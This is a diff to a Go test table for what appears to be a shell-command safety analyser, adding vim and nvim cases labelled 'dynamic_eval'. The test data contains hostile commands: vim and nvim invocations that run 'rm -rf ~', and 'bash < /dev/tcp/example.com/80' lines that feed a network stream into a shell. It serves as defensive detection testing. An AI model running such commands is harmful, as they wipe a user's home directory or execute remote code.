@@ -417,6 +417,9 @@ func TestProblems(t *testing.T) {
 		{`sed -E '/a/{s/b/c/;e
 }' f`, "dynamic_eval"},
 		{`sed "1e $CMD" f`, "dynamic_eval"},
+		{`vim -c 'call system("rm -rf ~")' -c q`, "dynamic_eval"},
+		{`nvim --headless -c 'terminal rm -rf ~'`, "dynamic_eval"},
+		{`vim -c "!$CMD" -c q`, "dynamic_eval"},
 		{`bash < /dev/tcp/example.com/80`, "dynamic_eval"},
 		{`exec 3</dev/tcp/example.com/80; bash <&3`, "dynamic_eval"},
 	}
